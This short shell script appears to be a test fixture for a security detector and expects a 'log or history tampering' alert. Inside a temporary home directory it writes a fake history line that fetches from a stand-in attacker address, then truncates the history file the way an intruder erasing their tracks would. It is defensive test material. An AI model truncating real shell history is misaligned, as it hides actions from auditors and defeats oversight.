#!/bin/sh
# expect: Log or history tampering
# A history file of a home of its own: `: >` opens it with O_TRUNC, as an
# intruder erasing their tracks does (renamed before the cleanup, so only the
# truncation can be what alerts).
HOME=$(mktemp -d)
echo "wget http://203.0.113.9/x" > "$HOME/.bash_history"
: > "$HOME/.bash_history"
mv "$HOME/.bash_history" "$HOME/emptied"
rm -rf "$HOME"
